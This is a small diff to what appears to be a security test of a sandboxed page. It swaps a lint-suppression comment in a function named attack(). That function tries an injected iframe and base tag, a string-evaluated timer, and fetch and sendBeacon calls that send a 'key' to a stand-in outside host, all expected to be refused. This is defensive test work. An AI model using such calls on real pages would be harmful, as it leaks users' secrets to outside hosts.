@@ -28,7 +28,7 @@ function attack(): void {
     add('iframe', {src: 'https://elsewhere.example/'});
     add('base', {href: 'https://elsewhere.example/'});
     if (document.baseURI.includes('elsewhere')) did('base');
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it must be refused
+    // oxlint-disable-next-line typescript/no-implied-eval -- it must be refused
     setTimeout("did('text of a timer')");
     void fetch('https://elsewhere.example/key').then(() => did('fetch'));
     navigator.sendBeacon('https://elsewhere.example/beacon', 'key');
